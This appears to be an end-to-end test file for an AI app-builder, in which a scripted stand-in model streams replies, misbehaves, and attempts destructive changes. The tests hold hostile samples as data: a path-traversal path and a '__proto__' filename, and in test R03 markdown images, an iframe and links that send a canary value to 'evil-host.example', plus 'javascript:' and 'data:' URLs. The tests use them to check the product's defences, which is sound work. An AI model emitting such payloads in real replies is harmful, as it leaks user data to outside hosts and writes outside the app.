import type { Page } from 'playwright-core'
import { beforeAll, describe, expect, it } from 'vitest'
import { type ChatMessage, textOf } from '#contract/chat/chat'
import { openVisitor } from './browser.ts'
import { heading, openHostileWorld } from './hostile-world.ts'
import { preview, repliesOn, replyFinished, sendInChat } from './person.ts'
import { action, addFile, headed, NOTES_APP, type ScriptedBuilder, signUpScripted } from './scripted-product.ts'

const world = openHostileWorld()
const { withBuilder } = world

/** Whose editor of an app of one page stands open, for what needs no app and no tab of its own. */
let grace: ScriptedBuilder
let appId: string
let tab: Page
beforeAll(async () => {
  grace = await signUpScripted(world.product, world.browser)
  appId = await grace.makeApp({ text: addFile('pages/Home.jsx', headed('Before')) })
  tab = await grace.openEditor(appId)
})

/** After a test that changed it, the page says for the next what it said at first. */
async function putBack(): Promise<void> {
  await world.product.script({ text: addFile('pages/Home.jsx', headed('Before')) })
  await sendInChat(tab, 'Put it back')
  await heading(tab, 'Before').waitFor()
}

const wordsOf = (message: ChatMessage | undefined) => message && textOf(message)

/** Sends a message and goes on at once. */
async function startSaying(page: Page, text: string): Promise<void> {
  await page.getByLabel('Message').fill(text)
  await page.keyboard.press('Enter')
}

describe('a reply that streams', () => {
  it('goes on while its tab is closed, and is found whole and once', () =>
    withBuilder(async (ada) => {
      const appId = await ada.makeApp()
      const text = `${Array.from({ length: 40 }, (_, at) => `wave${at}`).join(' ')} ashore.`
      await world.product.script({ text, heldBefore: ['wave4 '] })
      const tab = await ada.openEditor(appId, { withoutApp: true })
      await startSaying(tab, 'Count the waves')
      await repliesOn(tab).getByText('wave3').waitFor()
      await tab.close()
      await world.product.release()
      const later = await ada.openEditor(appId, { withoutApp: true })
      await repliesOn(later).getByText('ashore.').waitFor()
      await replyFinished(later)
      await expect.poll(() => repliesOn(later).count()).toBe(1)
      await repliesOn(later).getByText(text).waitFor()
      const messages = await ada.messages(appId)
      expect(messages.map(({ role }) => role)).toEqual(['user', 'assistant'])
      expect(wordsOf(messages[1])).toBe(text)
      expect(await world.product.seen()).toHaveLength(1)
    }))

  it('ends at once when stopped: the app stays as it last was complete', async () => {
    const { latestVersionId } = await grace.app(appId)
    await heading(tab, 'Before').waitFor()
    await world.product.script({ text: `${addFile('pages/Home.jsx', headed('After'))}And then`, fault: 'hang' })
    await startSaying(tab, 'Change the heading')
    await heading(tab, 'After').waitFor()
    await tab.getByRole('button', { name: 'Stop' }).click()
    await replyFinished(tab)
    await heading(tab, 'Before').waitFor()
    expect((await grace.app(appId)).latestVersionId).toBe(latestVersionId)
    expect((await grace.messages(appId)).at(-1)?.metadata).toMatchObject({ status: 'stopped', versionId: null })
    await expect.poll(async () => (await world.product.seen())[0]?.isAborted).toBe(true)
    await tab.reload()
    await heading(tab, 'Before').waitFor()
    await tab.getByText(/^Stopped/).waitFor()
  })

  it('S04: is the only one where two tabs send at once: the other message waits its turn, and both show the same conversation', () =>
    withBuilder(async (ada) => {
      const appId = await ada.makeApp()
      const text = 'First this, then that, and done at last.'
      await world.product.script({ text, heldBefore: ['then that'] }, { text })
      const tabs = [await ada.openEditor(appId, { withoutApp: true }), await ada.openEditor(appId, { withoutApp: true })]
      for (const [at, tab] of tabs.entries()) await tab.getByLabel('Message').fill(`Wish ${at}`)
      await Promise.all(tabs.map((tab) => tab.getByLabel('Message').press('Enter')))
      for (const tab of tabs) await repliesOn(tab).getByText('First this').waitFor()
      await world.product.release()
      for (const tab of tabs) await repliesOn(tab).nth(1).getByText('done at last.').waitFor()
      for (const tab of tabs) await replyFinished(tab)
      const messages = await ada.messages(appId)
      expect(messages.map(({ role }) => role)).toEqual(['user', 'assistant', 'user', 'assistant'])
      const said = [wordsOf(messages[0]), wordsOf(messages[2])]
      expect([...said].sort()).toEqual(['Wish 0', 'Wish 1'])
      for (const tab of tabs) {
        await expect.poll(() => tab.getByRole('article', { name: 'You' }).locator('p').allInnerTexts()).toEqual(said)
        await expect.poll(() => repliesOn(tab).count()).toBe(2)
        await expect.poll(() => tab.getByLabel('Message').inputValue()).toBe('')
      }
    }))
})

describe('a model that misbehaves', () => {
  it('says nothing: the person is told, and can go on', async () => {
    await world.product.script({ text: '' })
    await sendInChat(tab, 'Anything?')
    await repliesOn(tab).last().getByRole('alert').getByText('An error occurred while processing your request').waitFor()
    await world.product.script({ text: addFile('pages/Home.jsx', headed('After')) })
    await sendInChat(tab, 'Again')
    await heading(tab, 'After').waitFor()
    await putBack()
  })

  it('refuses with 429 again and again: the person is told, and nothing changes', async () => {
    const { latestVersionId } = await grace.app(appId)
    await world.product.script({ status: 429, headers: { 'retry-after-ms': '20' } })
    await sendInChat(tab, 'Change it')
    await repliesOn(tab).last().getByRole('alert').getByText('Rate limit exceeded. Please try again later.').waitFor()
    expect((await grace.app(appId)).latestVersionId).toBe(latestVersionId)
    await heading(tab, 'Before').waitFor()
  })

  it('writes </action> inside code and a path out of the app: the one is kept, the other refused with its reason', async () => {
    const quoting = `export default function Page() {\n  return <h1>{'Ends with </action> here'}</h1>\n}`
    const text = [
      addFile('../../worker/index.ts', 'export default {}'),
      addFile('__proto__', 'polluted'),
      addFile('pages/Home.jsx', quoting),
      action('paint_walls', 'pages/Wall.jsx', headed('Wall')),
      'Done.',
    ].join('\n')
    await world.product.script({ text }, { text: 'I leave it at that.' })
    await sendInChat(tab, 'Make a page')
    await heading(tab, 'Ends with </action> here').waitFor()
    const reply = repliesOn(tab).last()
    await reply.getByText('The path leaves the app.').waitFor()
    await reply.getByText('"__proto__"').first().waitFor()
    await reply.getByText('Done.', { exact: true }).waitFor()
    const { latestVersionId } = await grace.app(appId)
    const { files } = await grace.call<{ files: Record<string, string> }>(`/api/apps/${appId}/versions/${latestVersionId}`)
    expect(Object.keys(files)).toEqual(['pages/Home.jsx'])
    await putBack()
  })
})

describe('what a reply may not do by itself', () => {
  it('R05: rows are lost only when the builder presses Confirm', () =>
    withBuilder(async (ada) => {
      const appId = await ada.makeApp({ text: NOTES_APP })
      await ada.call(`/live_api/apps/${appId}/entities/Note`, { json: { text: 'Mine' } })
      const tab = await ada.openEditor(appId)
      const drop = `${action('delete_file', 'entities/Note.json', '')}${addFile('pages/Home.jsx', headed('No notes'))}`
      await world.product.script({ text: drop })
      await sendInChat(tab, 'Remove the notes')
      const card = tab.getByRole('region', { name: 'Needs your confirmation' })
      await card.getByText('2 notes are lost (1 of them a sample record).').waitFor()
      const before = await ada.app(appId)
      if (process.env.SCREENSHOTS) {
        await tab.screenshot({ path: `${process.env.SCREENSHOTS}/confirm-wide.png` })
        await tab.setViewportSize({ width: 390, height: 844 })
        await tab.screenshot({ path: `${process.env.SCREENSHOTS}/confirm-phone.png` })
        await tab.setViewportSize({ width: 1440, height: 900 })
        await tab.emulateMedia({ colorScheme: 'dark' })
        await tab.screenshot({ path: `${process.env.SCREENSHOTS}/confirm-dark.png` })
      }
      await card.getByRole('button', { name: 'Dismiss' }).click()
      await tab.getByText('You dismissed this. Nothing was changed.').waitFor()
      expect((await ada.app(appId)).latestVersionId).toBe(before.latestVersionId)
      await sendInChat(tab, 'Remove the notes, really')
      await card.getByRole('button', { name: 'Confirm' }).click()
      await tab.getByText('You confirmed this.').waitFor()
      expect((await ada.app(appId)).latestVersionId).not.toBe(before.latestVersionId)
      await heading(tab, 'No notes').waitFor()
    }))

  it('R03: nothing in its words leaves for another host without a click that shows where to', async () => {
    const asked: string[] = []
    tab.on('request', (request) => asked.push(request.url()))
    const leak = 'https://evil-host.example/?d=CNRY'
    const text = `![a](${leak}) ![b][r] [Reset your password](${leak}) <img src="${leak}"> <iframe src="${leak}"></iframe> <${leak}>\n\n[x](javascript:alert(1)) [y](data:text/html,z)\n\n[r]: ${leak}\n\nThe end.`
    await world.product.script({ text })
    await sendInChat(tab, 'Summarise the rows')
    const reply = repliesOn(tab).last()
    await reply.getByText('The end.').waitFor()
    await expect.poll(() => reply.locator('img, iframe, link, script, video, object').count()).toBe(0)
    for (const link of await reply.getByRole('link').all()) {
      await expect.poll(() => link.getAttribute('href')).toMatch(/^https:/)
      await expect.poll(() => link.textContent()).toContain('evil-host.example')
      await expect.poll(() => link.getAttribute('rel')).toContain('noopener')
    }
    expect(asked.filter((url) => url.includes('evil-host'))).toEqual([])
  })
})

describe('a restart of the server', () => {
  it('cuts a reply off where it was; it can go on, and everything else is found again', () =>
    withBuilder(async (ada) => {
      const appId = await ada.makeApp({ text: NOTES_APP })
      const { url } = await ada.publish(appId)
      const { latestVersionId } = await ada.app(appId)
      const tab = await ada.openEditor(appId)
      await preview(tab).getByText('Low tide at noon').waitFor()
      const unfinished =
        '<action type="add_file" file="pages/Second.jsx" title="Write pages/Second.jsx" end="CUT">\nexport default'
      await world.product.script({
        text: `One first.\n${addFile('pages/First.jsx', headed('First'))}${unfinished}`,
        fault: 'hang',
      })
      await startSaying(tab, 'Add two pages')
      await repliesOn(tab).last().getByText('Write pages/Second.jsx').waitFor()
      expect((await ada.messages(appId)).at(-1)?.metadata.status).toBe('streaming')

      await world.product.script({ text: addFile('pages/Second.jsx', headed('Second')) })
      await world.product.restart()
      const goOn = tab.getByRole('button', { name: /keep going/i })
      await goOn.waitFor()
      const kept = (await ada.messages(appId)).at(-1)
      expect(kept?.metadata).toMatchObject({ status: 'truncated', versionId: null })
      expect(wordsOf(kept)).toMatch(/^One first\.\n[\s\S]*export default$/)
      expect((await ada.app(appId)).latestVersionId).toBe(latestVersionId)

      await goOn.click()
      await repliesOn(tab).nth(2).waitFor()
      await replyFinished(tab)
      const { latestVersionId: newest } = await ada.app(appId)
      const { files } = await ada.call<{ files: Record<string, string> }>(`/api/apps/${appId}/versions/${newest}`)
      expect(Object.keys(files)).toEqual(expect.arrayContaining(['pages/Home.jsx', 'pages/First.jsx', 'pages/Second.jsx']))

      const { versions } = await ada.call<{ versions: unknown[] }>(`/api/apps/${appId}/versions`)
      expect(versions).toHaveLength(2)
      expect(await ada.call(`/api/apps/${appId}/entities/Note`)).toMatchObject([{ text: 'Low tide at noon' }])
      const vera = await openVisitor(world.browser)
      await vera.page.goto(url)
      await vera.page.getByText('Low tide at noon').waitFor()
      await vera.context.close()
      await tab.goto(`${world.product.url}/home`)
      await tab.getByText('Shore').first().waitFor()
    }))
})
